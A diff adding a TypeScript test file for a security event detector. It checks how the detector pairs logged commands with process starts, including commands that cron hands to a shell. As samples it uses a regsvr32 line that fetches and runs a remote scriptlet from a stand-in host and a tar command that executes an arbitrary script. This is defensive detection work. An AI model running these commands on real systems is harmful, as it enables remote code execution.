@@ -1,0 +1,51 @@
+import { expect, it } from "vitest";
+import { anEvent, aStart, testCatalog } from "../../test/support/events.ts";
+import type { Event } from "../model/event.ts";
+import { createDetector } from "./detector.ts";
+
+const IMAGE = "C:\\Windows\\System32\\regsvr32.exe";
+const ARGUMENTS = "/s /i:http://files.example.net/a.sct scrobj.dll";
+
+function find(events: readonly Event[]) {
+  const detector = createDetector({ catalog: testCatalog(), minLevel: "low" });
+  return [...events.flatMap((event) => detector.push(event)), ...detector.end()];
+}
+
+const start = (second: number, line = `"${IMAGE}" ${ARGUMENTS}`) => aStart(second, "A", IMAGE, line);
+const command = (second: number, text = `regsvr32.exe  ${ARGUMENTS}`) =>
+  anEvent("commandExecution", second, { text, dialect: "commandLine", origin: "hostApplication" });
+
+it("takes a logged command and the start of its process as one, whichever comes first", () => {
+  for (const events of [
+    [start(1), command(3)],
+    [command(1), start(3)],
+  ]) {
+    const findings = find(events);
+    expect(findings).toHaveLength(1);
+    const [one] = events.filter(({ kind }) => kind === "processCreation");
+    const [other] = events.filter(({ kind }) => kind === "commandExecution");
+    expect(findings[0]?.source.index).toBe(one?.record.index);
+    expect(findings[0]?.related).toContainEqual(expect.objectContaining({ index: other?.record.index, role: "same" }));
+  }
+});
+
+it("keeps commands apart that differ, or that are far from the start", () => {
+  expect(find([start(1), command(3, `regsvr32.exe ${ARGUMENTS} /n`)])).toHaveLength(2);
+  expect(find([start(1), command(60)])).toHaveLength(2);
+});
+
+it("knows the shell that cron gives a command to", () => {
+  const line = "tar cf a.tar /srv --checkpoint=1 --checkpoint-action=exec=/tmp/x.sh";
+  const job = anEvent("commandExecution", 1, { platform: "linux", text: line, dialect: "sh", origin: "cron" });
+  const run = anEvent("processCreation", 2, {
+    platform: "linux",
+    image: "/usr/bin/dash",
+    commandLine: `/bin/sh -c '${line}'`,
+    args: ["/bin/sh", "-c", line],
+    process: { pid: 9, image: "/usr/bin/dash" },
+  });
+  expect(find([job])).toHaveLength(1);
+  const findings = find([job, run]);
+  expect(findings).toHaveLength(1);
+  expect(findings[0]?.source.index).toBe(run.record.index);
+});
